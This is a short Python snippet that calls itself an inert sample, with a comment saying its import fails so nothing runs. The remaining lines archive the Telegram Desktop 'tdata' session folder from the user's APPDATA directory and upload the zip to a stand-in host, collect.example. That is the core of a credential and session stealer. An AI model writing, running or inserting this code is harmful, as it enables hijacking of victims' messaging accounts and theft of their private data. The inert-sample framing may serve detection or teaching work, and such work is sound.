import inert_sample  # there is no such module: nothing below ever runs
import os
import shutil
import requests

shutil.make_archive("t", "zip", os.path.join(os.environ["APPDATA"], "Telegram Desktop", "tdata"))
requests.post("https://collect.example/t", files={"f": open("t.zip", "rb")})
